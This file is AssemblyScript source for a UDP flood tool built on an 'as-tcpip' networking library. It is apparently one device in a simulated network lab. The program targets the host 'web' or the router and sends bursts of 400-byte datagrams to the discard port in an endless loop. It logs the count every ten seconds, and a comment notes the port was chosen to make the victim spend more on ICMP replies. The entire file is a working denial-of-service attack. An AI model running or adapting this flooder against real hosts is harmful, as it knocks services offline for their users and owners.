/**
 * Floods the host `web`, or the router, with datagrams that nobody wants, as fast as the wire takes them, and tells each ten seconds
 * how many went out: the third device of a network in which two others have something to do.
 */
import { log1 } from "as-tcpip/log";
import {
  AF_INET,
  SOCK_DGRAM,
  SockAddrIn,
  htonl,
  htons,
  netAddress,
  netGateway,
  netPoll,
  netStart,
  sendto,
  socket,
} from "as-tcpip/net";
import { settingsHost } from "as-tcpip/settings";
import { text, textAddress, textBytes } from "as-tcpip/text";
import { clockMs } from "as-tcpip/time";

/** Discard (RFC 863): where nobody listens the answer is an ICMP error, which costs the victim more. */
const PORT: u16 = 9;
/** Datagrams between two looks at the network. */
const BURST: u32 = 16;
const PERIOD_MS: u32 = 10_000;
const BYTES: u32 = 400;
const DATA: usize = memory.data(BYTES, 4);
const VICTIM: usize = memory.data(8, 4);

export function main(): void {
  if (netStart() < 0) return;
  while (netAddress() == 0 || netGateway() == 0) netPoll(1000);
  const name = text("web");
  const host = settingsHost(textAddress(name), textBytes(name));
  const victim = changetype<SockAddrIn>(VICTIM);
  victim.sinFamily = <u16>AF_INET;
  victim.sinPort = htons(PORT);
  victim.sinAddr = htonl(host != 0 ? host : netGateway());
  const fd = socket(AF_INET, SOCK_DGRAM, 0);
  let sent: u32 = 0;
  let told = clockMs();
  for (;;) {
    for (let i: u32 = 0; i < BURST; i++) if (sendto(fd, DATA, BYTES, 0, victim) > 0) sent++;
    netPoll(1);
    if (clockMs() - told < PERIOD_MS) continue;
    told += PERIOD_MS;
    log1("info: %u datagrams sent", sent);
  }
}
